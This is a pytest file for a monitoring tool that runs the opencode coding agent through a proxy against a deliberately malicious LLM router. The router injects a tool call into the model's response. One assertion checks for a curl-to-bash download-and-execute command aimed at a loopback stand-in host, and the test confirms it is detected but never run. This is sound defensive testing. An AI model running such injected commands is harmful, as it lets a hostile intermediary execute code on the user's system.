"""The real opencode CLI (npm `opencode-ai`: a Bun single-file binary, shipped for linux-x64 as an npm
optional dependency, no download at install or run time) through `routerwatch wrap --proxy` against
the injecting router zoo, which offers h2 and http/1.1 (opencode speaks http/1.1): its exchanges are decoded into the store
(OpenAI-compatible provider: chat completions, streamed, with the injected tool call), linked to the
agent's process and flows, and the AC-1 finding follows.

opencode may run nothing: its config denies bash, edit and webfetch (so the shell tool is not even
offered), and the test checks that the zoo's loopback payload host was never fetched.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from collector.store import Store
from tests.conftest import BIN, REPO, run_cli
from tests.support.fixtures import pki_dir, zoo  # noqa: F401

AGENTS = Path(os.environ.get("ROUTERWATCH_AGENTS_DIR", REPO / ".cache" / "agents")) / "node_modules" / ".bin"


def _q(store: Path, sql: str) -> list[dict]:
    with Store.open(str(store), read_only=True) as st:
        cur = st.sql(sql)
        cols = [d[0] for d in cur.description]
        return [dict(zip(cols, row, strict=True)) for row in cur.fetchall()]


def test_opencode_through_proxy(tmp_path: Path, zoo) -> None:  # noqa: ANN001, F811
    exe = AGENTS / "opencode"
    if not exe.exists():
        pytest.skip(f"{exe} is missing: `bash deploy/deps.sh --test` installs the agent CLIs (npm)")
    router = zoo("inject")
    home, work, store = tmp_path / "home", tmp_path / "work", tmp_path / "store"
    home.mkdir()
    work.mkdir()
    (work / "opencode.json").write_text(json.dumps({
        "provider": {"zoo": {"npm": "@ai-sdk/openai-compatible", "name": "Zoo",
                             "options": {"baseURL": f"{router.url}/v1", "apiKey": "{env:ZOO_API_KEY}"},
                             "models": {"gpt-4o": {"name": "gpt-4o", "tool_call": True}}}},
        "model": "zoo/gpt-4o", "autoupdate": False, "share": "disabled",
        "permission": {"bash": "deny", "edit": "deny", "webfetch": "deny"}}))
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "NODE_EXTRA_CA_CERTS": str(router.ca_path),
           "ZOO_API_KEY": "sk-zoo-" + "e2eOpencode0" * 3, "OPENCODE_DISABLE_MODELS_FETCH": "1",
           "OPENCODE_DISABLE_AUTOUPDATE": "1", "ROUTERWATCH_PROXY_CA_DIR": str(tmp_path / "proxy-ca"),
           "NO_COLOR": "1",
           # opencode installs its plugin packages from the npm registry at run time; point it at a
           # closed loopback port (it carries on without them) so the test stays on loopback
           "NPM_CONFIG_REGISTRY": "http://127.0.0.1:9/", "BUN_CONFIG_REGISTRY": "http://127.0.0.1:9/"}
    p = subprocess.run([str(BIN / "routerwatch"), "wrap", "--proxy", "--store", str(store), "--", str(exe), "run",
                        "--format", "json", "run: ls /tmp"],
                       cwd=work, env=env, capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)
    assert p.returncode == 0, p.stderr[-3000:]
    events = [json.loads(x) for x in p.stdout.splitlines() if x.startswith("{")]
    assert any(e.get("type") == "step_finish" for e in events), p.stdout[-2000:]

    # Bun's fetch offers only http/1.1: the proxy gave it an http/1.1 upstream although the zoo offers h2
    assert {h["http_version"] for h in _q(store, "SELECT http_version FROM http")} == {"HTTP/1.1"}
    assert {t["alpn_selected"] for t in _q(store, "SELECT alpn_selected FROM tls")} == {"http/1.1"}
    ex = _q(store, "SELECT * FROM llm_exchanges ORDER BY ts")
    assert len(ex) >= 2 and {e["api"] for e in ex} == {"openai.chat"}, ex
    assert all(e["source"] == "proxy" and e["streamed"] and e["model_requested"] == "gpt-4o" for e in ex)
    injected = [e for e in ex if e["tool_call_count"]]
    assert len(injected) == 1
    (call,) = _q(store, f"SELECT * FROM tool_calls WHERE exchange_id = '{injected[0]['exchange_id']}' "
                        "AND direction = 'response'")
    assert "curl -s http://127.0.0.2:" in call["arguments"] and "/x.sh | bash" in call["arguments"]
    pid = injected[0]["pid"]
    assert pid and all(e["pid"] == pid for e in ex)
    flows = _q(store, f"SELECT * FROM flows WHERE flow_uid = '{injected[0]['flow_uid']}'")
    assert flows and flows[0]["dst_port"] == router.port and flows[0]["pid"] == pid
    assert {"agent", "upstream"} <= {f["proxy_leg"] for f in _q(store, f"SELECT proxy_leg FROM flows WHERE pid = {pid}")}
    sec = _q(store, "SELECT * FROM secrets_seen WHERE direction = 'request'")
    assert sec and "e2eOpencode0" not in json.dumps(_q(store, "SELECT * FROM http"), default=str)
    assert not any(e.get("payload") for e in router.log), router.log  # nothing ran the injected command
    r = run_cli("analyze", "--store", str(store))
    assert r.returncode == 0, r.stderr
    f = _q(store, "SELECT rule_id, attack_class, pid FROM findings")
    assert {"rule_id": "ac1-download-exec", "attack_class": "AC-1", "pid": pid} in f, f
